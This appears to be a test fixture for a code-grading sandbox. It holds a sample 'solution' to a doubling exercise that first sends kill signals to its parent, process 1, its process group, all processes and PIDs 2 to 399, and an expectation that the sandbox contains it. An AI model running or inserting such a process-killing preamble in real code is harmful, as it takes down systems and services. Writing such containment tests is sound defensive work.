"""Kills its parent, process 1, its group and every process that it can name: nobody else is hit."""

ANSWERS = {
    "ch01_double": '''
import os, signal
for pid in (os.getppid(), 1, 0, -1, *range(2, 400)):
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass

def double(x):
    return 2 * x
''',
}
EXPECT = {'double': ('passed', 'process died')}
GROUP = "out of the sandbox"
